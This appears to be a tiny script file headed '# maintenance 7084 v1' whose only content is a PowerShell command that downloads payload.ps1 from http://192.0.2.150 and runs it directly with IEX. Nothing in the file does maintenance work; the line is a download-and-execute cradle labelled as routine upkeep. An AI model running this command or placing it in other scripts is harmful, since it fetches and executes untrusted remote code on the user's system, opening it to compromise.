# maintenance 7084 v1
IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.150/payload.ps1')
